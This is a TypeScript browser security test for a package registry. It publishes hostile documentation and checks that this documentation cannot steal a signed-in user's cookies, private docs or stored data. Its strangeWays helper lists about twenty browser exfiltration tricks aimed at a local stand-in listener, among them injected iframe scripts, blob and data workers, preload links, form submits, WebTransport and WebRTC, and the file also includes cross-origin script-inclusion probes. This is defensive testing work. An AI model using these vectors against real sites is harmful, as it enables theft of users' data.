/**
 * Hostile documentation in a real browser, read by somebody who is signed in: below our own host, on a host of its
 * own that is the same site, and on one that is another site. It gets nothing, and nothing of it gets out.
 *
 * What is not prevented: a page may lead to any address, and what it knows may stand in that. Browsers open
 * connections and look up names ahead of that (`preconnect`, `dns-prefetch`), which is the same leak. What it knows
 * is its own docs, and the pass in its own address. WebRTC is blocked by Chromium only, since 152.
 */

import { createSocket } from "node:dgram";
import { createServer, type Server as HttpServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { browser, browserAvailable } from "../support/browser.ts";
import { type DocsFile, docsTarball } from "../support/exdoc.ts";
import { leaving, maliciousFiles } from "../support/malicious-docs.ts";
import { freePort, type Server, startServer } from "../support/server.ts";
import { packageTarball } from "../support/tarball.ts";

/** By what docs have for a host: the main one and theirs. Chromium takes *.localhost for this machine. */
const places: Record<string, { main: string; docs?: string }> = {
  "below our own host": { main: "127.0.0.1" },
  "on a host of the same site": { main: "hex.test.localhost", docs: "docs.test.localhost" },
  "on a host of another site": { main: "127.0.0.1", docs: "localhost" },
};

const secret = "only for members";

describe.skipIf(!browserAvailable).each(Object.entries(places))("hostile docs %s", (_, hosts) => {
  let server: Server;
  let main: string;
  let docs: string;
  let third: Third;
  let context: BrowserContext;

  beforeAll(async () => {
    const port = await freePort();
    main = `http://${hosts.main}:${port}`;
    docs = hosts.docs === undefined ? main : `http://${hosts.docs}:${port}`;
    server = await startServer({
      port,
      config: configOf(main, hosts.docs && `${hosts.docs}:${port}`),
    });
    third = await listen();
    await server.makeUser("victim", "admin", "secret");
    const evil = maliciousFiles({
      ...{ thirdParty: third.origin, registry: main },
      otherScript: `${docs}/docs/open/fine/1.0.0/app.js`,
      privateScript: `${main}/docs/secret/hidden/docs_config.js`,
    });
    const fine = [
      { path: "index.html", bytes: `<!DOCTYPE html><title>fine</title><body>${secret}` },
      { path: "app.js", bytes: `window.stolen = ${JSON.stringify(secret)};` },
    ];
    await publish(server, "open", "evil", evil);
    await publish(server, "secret", "evil", evil);
    await publish(server, "open", "fine", fine);
    await publish(server, "secret", "hidden", fine);
    context = await (await browser()).newContext();
    const page = await context.newPage();
    await page.goto(`${main}/sign-in`);
    await page.fill("#username", "victim");
    await page.fill("#password", "password of victim");
    await page.click("main button[type=submit]");
    await page.waitForURL(`${main}/`);
    await page.close();
  });

  afterAll(async () => {
    await context?.close();
    third?.close();
  });

  it("would be noticed: the page has its own docs, and what is given to whoever reads them", async () => {
    const page = await open("open");
    const own = await page.evaluate(`fetch("sw.js").then((it) => it.text())`);
    expect(own).toContain("addEventListener");
    const kept = await page.evaluate(
      `(() => { try { localStorage.setItem("a", "b"); return localStorage.getItem("a"); } catch { return null; } })()`,
    );
    expect(kept).toBe(hosts.docs === undefined ? null : "b");
    // The same script where nobody keeps it from anything.
    const plain = await context.newPage();
    await plain.goto(`${third.origin}/plain`);
    await plain.evaluate("fetch('/control')");
    expect(third.heard()).toContain("GET /control");
    await plain.goto(`${main}/`);
    expect(await plain.evaluate("fetch('/sign-in').then((it) => it.url)")).toBe(`${main}/`);
    await plain.close();
    await page.close();
  });

  it.each(["open", "secret"])("get nothing, in a repository that is %s", async (repository) => {
    const page = await open(repository);
    await page.waitForFunction(`document.title === "done"`, undefined, { timeout: 30_000 });
    await page.click("#click");
    await page.waitForFunction(`document.title === "clicked"`, undefined, { timeout: 30_000 });
    const report = JSON.parse((await page.textContent("#report")) ?? "{}");
    const got = Object.entries(report).filter(([, how]) => String(how).startsWith("GOT"));
    expect(Object.keys(report).length).toBeGreaterThan(40);
    const itsOwn = repository === "open" ? (hosts.docs ? storages : []) : ["address and referrer"];
    expect(got.filter(([name]) => !itsOwn.includes(name))).toEqual([]);
    const [cookie] = await context.cookies(main);
    for (const it of [secret, cookie?.value]) {
      expect(got.map(([, what]) => what).join()).not.toContain(it);
    }
    await page.close();
    expect(third.heard()).toEqual([]);
    await expectUntouched();
  });

  it.each(["open", "secret"])(
    "get nothing out by stranger ways, in one that is %s",
    async (repository) => {
      const page = await open(repository);
      await page.evaluate(strangeWays(third));
      await page.waitForTimeout(2500);
      expect(third.heard()).toEqual([]);
      expect(third.packets).toBe(0);
      for (const it of context.pages()) await it.close();
    },
  );

  it.each(["open", "secret"])(
    "reach no private docs through a window, in one that is %s",
    async (repository) => {
      for (const address of [`${main}/docs/secret/hidden/1.0.0/`, `${docs}/docs/secret/hidden/`]) {
        const page = await open(repository);
        const opened = context.waitForEvent("page");
        await page.evaluate(
          `document.getElementById("click").outerHTML = '<a id="go">Go</a>';
         document.getElementById("go").onclick = () => { window.held = window.open(${JSON.stringify(address)}); };`,
        );
        await page.click("#go");
        const popup = await opened;
        // The reader sees it; the page that opened it does not.
        await popup.waitForFunction(`document.title === "fine"`, undefined, { timeout: 10_000 });
        expect(await popup.textContent("body")).toContain(secret);
        expect(await popup.evaluate("window.opener")).toBeNull();
        const seen = await page.evaluate(
          `(() => { try { return held.document.body.textContent + held.location.href; } catch { return "blocked"; } })()`,
        );
        expect(seen).not.toContain(secret);
        expect(seen).not.toContain("~");
        await popup.close();
        await page.close();
      }
    },
  );

  it("find nothing that private docs have stored before them", async () => {
    const page = await context.newPage();
    await page.goto(`${main}/docs/secret/hidden/`);
    await page.evaluate(
      `try { sessionStorage.setItem("index", "secret"); localStorage.setItem("index", "secret"); } catch {}`,
    );
    await page.goto(`${main}/docs/open/evil/sw.js`);
    await page.goto(`${main}/docs/open/fine/`);
    const found = await page.evaluate(
      `(() => { try { return sessionStorage.index + localStorage.index; } catch { return "blocked"; } })()`,
    );
    expect(found).not.toContain("secret");
    await page.close();
  });

  it("are run by no other page, nor as another type than they have", async () => {
    const page = await context.newPage();
    const [cookie] = await context.cookies(main);
    for (const path of ["picture.png", "picture.svg", "page.xhtml", "feed.xml"]) {
      await page.goto(`${docs}/docs/open/evil/${path}`);
      expect([path, await page.title()]).not.toEqual([path, "sniffed"]);
      // In whatever runs there, there is no cookie of ours.
      expect(await page.title()).not.toContain(cookie?.value);
    }
    await page.goto(`${third.origin}/plain`);
    for (const address of [
      `${main}/docs/secret/hidden/docs_config.js`,
      `${main}/docs/secret/hidden/1.0.0/app.js`,
    ]) {
      const how = await page.evaluate(`new Promise((done) => {
        const it = Object.assign(document.createElement("script"), { src: ${JSON.stringify(address)} });
        it.onload = () => done("loaded " + (window.versionNodes || window.stolen));
        it.onerror = () => done("blocked");
        document.head.append(it);
      })`);
      expect([address, how]).toEqual([address, "blocked"]);
    }
    await page.close();
    third.heard();
  });

  it("move no page around them, and take nothing along when they leave", async () => {
    const page = await context.newPage();
    await page.goto(`${docs}/docs/open/evil/${leaving.top}`);
    await page.waitForTimeout(800);
    expect(new URL(page.url()).pathname).toBe(`/docs/open/evil/${leaving.top}`);
    expect(third.heard()).toEqual([]);
    // By itself a page may go; nobody hears from the browser where it comes from.
    await page.goto(`${docs}/docs/open/evil/${leaving.refresh}`).catch(() => undefined);
    await page.waitForURL(`${third.origin}/away*`);
    expect(third.referrers()).toEqual([]);
    await page.close();
    third.heard();
  });

  it("give nobody else a way in by the address of a private page", async () => {
    const page = await open("secret");
    const address = page.url();
    expect(address).toContain("/~");
    const stranger = await (await browser()).newContext();
    const theirs = await stranger.newPage();
    await theirs.goto(address);
    const isShut = hosts.docs === undefined;
    // On a host without cookies the address is all there is; it opens this package's docs, for an hour.
    expect(new URL(theirs.url()).pathname).toMatch(
      isShut ? /^\/sign-in$/ : /^\/docs\/secret\/evil\//,
    );
    await theirs.goto(address.replace("/evil/", "/hidden/"));
    expect(new URL(theirs.url()).pathname).toBe("/sign-in");
    await stranger.close();
    await page.close();
  });

  async function open(repository: string): Promise<Page> {
    const page = await context.newPage();
    await page.goto(`${main}/docs/${repository}/evil/1.0.0/`);
    expect(page.url()).toContain(`${docs}/docs/${repository}/evil/`);
    await page.waitForSelector("#report");
    return page;
  }

  /** Still signed in, and no key has come into being. */
  async function expectUntouched(): Promise<void> {
    const cookies = (await context.cookies(main)).map(({ name }) => name);
    expect(cookies).toContain("hexedge");
    const page = await context.newPage();
    await page.goto(`${main}/`);
    expect(await page.textContent("header")).toContain("victim");
    await page.close();
    const keys = await server.mustAsk("GET", "/api/users/victim/keys");
    expect(keys.map(({ name }: { name: string }) => name)).toEqual(["test"]);
  }
});

/** What a host of its own gives to public docs; nothing of ours is in it. */
const storages = [
  ...["localStorage", "sessionStorage", "indexedDB", "caches", "document.domain"],
  // Its own ones. On a host of the same site it may set some that the main host gets; those of HTTPS have a
  // prefix that no neighbour can give.
  ...["setting a cookie", "document.cookie", "cookieStore"],
];

/** Without a click: windows of its own making, frames that are written, and what is no request of HTTP. */
function strangeWays({ origin, host, udpPort }: Third): string {
  const given = JSON.stringify([origin, host, udpPort]);
  return `(([origin, host, udpPort]) => {
    const script = "<script>fetch('" + origin + "/strange').catch(() => {}); new Image().src = '" + origin + "/strange-image';</" + "script>";
    const add = (it) => { document.body.append(it); return it; };
    const make = (name, attributes) => Object.assign(document.createElement(name), attributes);
    const attempt = (it) => { try { it(); } catch {} };
    attempt(() => add(make("iframe", { srcdoc: script })));
    attempt(() => add(make("iframe", { src: "data:text/html," + encodeURIComponent(script) })));
    attempt(() => add(make("iframe", { src: URL.createObjectURL(new Blob([script], { type: "text/html" })) })));
    attempt(() => add(make("iframe", { src: "javascript:" + JSON.stringify(script) })));
    attempt(() => { const it = add(make("iframe")); it.contentDocument.write(script); });
    attempt(() => add(make("embed", { src: origin + "/embed" })));
    attempt(() => add(make("link", { rel: "manifest", href: origin + "/manifest" })));
    attempt(() => add(make("link", { rel: "modulepreload", href: origin + "/modulepreload" })));
    attempt(() => add(make("link", { rel: "icon", href: origin + "/icon" })));
    attempt(() => add(make("link", { rel: "prerender", href: origin + "/prerender" })));
    attempt(() => add(make("script", { type: "speculationrules", textContent:
      JSON.stringify({ prefetch: [{ source: "list", urls: [origin + "/speculated"] }], prerender: [{ source: "list", urls: [origin + "/prerendered"] }] }) })));
    attempt(() => add(make("audio", { src: origin + "/audio" })));
    attempt(() => { const it = make("video"); it.poster = origin + "/poster"; add(it); });
    attempt(() => { document.body.insertAdjacentHTML("beforeend", "<svg><image href='" + origin + "/svg'/><use href='" + origin + "/use#a'/></svg>"); });
    attempt(() => { document.body.insertAdjacentHTML("beforeend", "<table background='" + origin + "/table'><input type=image src='" + origin + "/input'>"); });
    attempt(() => new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + origin + "/shared')"]))));
    attempt(() => new Worker("data:text/javascript,fetch('" + origin + "/worker')"));
    attempt(() => { const form = add(make("form", { action: origin + "/form", method: "get" })); form.submit(); });
    attempt(() => new WebTransport("https://" + host + ":" + udpPort));
    attempt(async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + host + ":" + udpPort }] });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
    });
  })(${given})`;
}

interface Third {
  origin: string;
  host: string;
  udpPort: number;
  /** By WebRTC. */
  packets: number;
  /** Requests since it was asked last. */
  heard(): string[];
  referrers(): string[];
  close(): void;
}

/** A host that is none of ours: what it hears has got out. */
async function listen(): Promise<Third> {
  const requests: string[] = [];
  const referrers: string[] = [];
  const server: HttpServer = createServer((request, response) => {
    if (request.url !== "/plain" && request.url !== "/favicon.ico")
      requests.push(`${request.method} ${request.url}`);
    const { referer, host } = request.headers;
    if (referer && new URL(referer).host !== host) referrers.push(referer);
    response.writeHead(200, { "content-type": "text/html", "access-control-allow-origin": "*" });
    response.end("<!DOCTYPE html><title>third</title>");
  });
  const udp = createSocket("udp4");
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  await new Promise<void>((done) => udp.bind(0, "127.0.0.1", done));
  const third: Third = {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    ...{ host: "127.0.0.1", udpPort: udp.address().port, packets: 0 },
    heard: () => requests.splice(0),
    referrers: () => referrers.splice(0),
    close: () => {
      server.closeAllConnections();
      server.close();
      udp.close();
    },
  };
  udp.on("message", () => third.packets++);
  return third;
}

async function publish(server: Server, repository: string, name: string, files: DocsFile[]) {
  const at = `/api/repos/${repository}`;
  const body = (await packageTarball({ name, version: "1.0.0" })).slice();
  expect((await server.fetch(`${at}/publish`, { method: "POST", body })).status).toBe(201);
  const docs = docsTarball(files).slice();
  const path = `${at}/packages/${name}/releases/1.0.0/docs`;
  expect((await server.fetch(path, { method: "POST", body: docs })).status).toBe(201);
}

function configOf(main: string, docsHost: string | undefined): string {
  const apart = docsHost === undefined ? "" : `DOCS_HOST = "${docsHost}"`;
  return `
compatibility_date = "2026-05-01"
compatibility_flags = ["nodejs_compat"]
[vars]
PUBLIC_URL = "${main}"
${apart}
[vars.REPOSITORIES.open]
kind = "hosted"
public = true
[vars.REPOSITORIES.secret]
kind = "hosted"
`;
}
